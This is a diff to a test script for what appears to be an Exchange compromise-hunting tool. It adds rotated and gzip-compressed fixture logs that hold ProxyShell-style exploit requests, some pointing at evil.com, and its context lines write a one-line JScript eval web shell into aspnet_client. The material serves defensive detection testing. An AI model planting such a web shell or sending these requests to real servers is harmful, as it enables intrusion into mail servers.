@@ -3,7 +3,8 @@
 # exploitation is counted, not dropped, and the exploitation and the web
 # shell are still found; a second #Fields header applies from its line
 # on; a run of NUL bytes (unclean shutdown) does not swallow the lines
-# after it, in UTF-8 and UTF-16 logs; the same tree hunted with 1, 2 and 8
+# after it, in UTF-8 and UTF-16 logs; rotated and gzip-compressed logs are
+# read and a damaged one is listed; the same tree hunted with 1, 2 and 8
 # threads (on a loaded machine) gives byte-identical JSON.
 . "$(dirname "$0")/lib.sh"
 tree="$TMP/ev"
@@ -31,6 +32,12 @@ u16 = (hdr + "2021-08-22 01:00:00 10.0.0.5 GET /owa/ - 443 - 10.1.2.3 Mozilla 20
 u16 += b"\0" * 3333
 u16 += "2021-08-22 02:00:00 10.0.0.5 POST /ecp/x@evil.com/RulesEditor/InboxRules.svc/NewObject msExchEcpCanary=1 443 - 203.0.113.66 python-requests 200\r\n".encode("utf-16-le")
 open(d + "/u_ex210822.log", "wb").write(b"\xff\xfe" + u16)
+# Rotated and compressed copies, as collections bring them.
+import gzip
+open(d + "/u_ex221205.log.1", "w", newline="").write(hdr + "2022-12-05 02:03:04 10.0.0.5 POST /owa/alice@corp.example/powershell clientId=1 443 CORP\\alice 203.0.113.66 python-requests 200\r\n")
+with gzip.open(d + "/u_ex221001.log.2.gz", "wt", newline="") as g:
+    g.write(hdr + "2022-10-01 09:10:11 10.0.0.5 POST /autodiscover/autodiscover.json @evil.com/powershell/?&Email=autodiscover/autodiscover.json%3F@evil.com&Protocol=Powershell 443 CORP\\alice 203.0.113.66 python-requests 200\r\n")
+open(d + "/u_ex221002.log.gz", "wb").write(b"\x1f\x8b\x08\x00broken")
 PY
 printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["q"],"unsafe");%%>' > "$tree/inetpub/wwwroot/aspnet_client/x.aspx"
 
@@ -43,6 +50,9 @@ problems = []
 if v["CVE-2021-34473"] != "back-doored": problems.append(f"34473 {v['CVE-2021-34473']}")
 if v["CVE-2021-34523"] != "back-doored": problems.append(f"34523 after a NUL run: {v['CVE-2021-34523']}")
 if v["CVE-2021-33766"] != "exploited": problems.append(f"33766 after a UTF-16 NUL run: {v['CVE-2021-33766']}")
+if v["CVE-2022-41080"] == "not-seen": problems.append("rotated .log.1 not read")
+if v["CVE-2022-41040"] == "not-seen": problems.append("compressed .log.2.gz not read")
+if not any("u_ex221002.log.gz" in u for u in r.get("unreadable", [])): problems.append(f"damaged gzip not listed: {r.get('unreadable')}")
 if not any(b["path"].endswith("x.aspx") for b in r["backdoors"]): problems.append("shell missing")
 scans = [f for f in r["findings"] if f["kind"] == "proxyshell-scan"]
 total = len(scans) + sum(f.get("more", 0) for f in scans)
